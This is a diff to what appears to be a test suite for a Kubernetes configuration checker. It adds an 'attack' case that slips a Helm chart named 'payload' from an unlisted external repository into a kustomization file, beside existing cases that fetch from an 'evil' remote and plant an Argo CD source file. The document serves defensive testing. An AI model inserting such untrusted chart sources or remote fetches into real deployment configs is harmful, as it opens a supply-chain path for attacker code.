@@ -626,6 +626,17 @@ ATTACKS: dict[str, Attack] = {
         f"{DEV_OVERLAY}/kustomization.yaml:",
         "configMapGenerator lists deploy@example.com:evil/env, which is fetched",
     ),
+    "chart-pulled-from-anywhere": Attack(
+        lambda r: edit(
+            r,
+            f"{DEV_OVERLAY}/kustomization.yaml",
+            "patches:\n",
+            "helmCharts:\n  - name: payload\n    repo: https://charts.example.net\n"
+            "    releaseName: p\npatches:\n",
+        ),
+        f"{DEV_OVERLAY}/kustomization.yaml:",
+        "helmCharts payload comes from https://charts.example.net, but the answers give no chart_repo",
+    ),
     "argocd-source-file-in-an-overlay": Attack(
         lambda r: write(r, f"{DEV_OVERLAY}/.argocd-source.yaml", 'directory: {include: "payload.yaml"}\n'),
         f"{DEV_OVERLAY}/.argocd-source.yaml:",
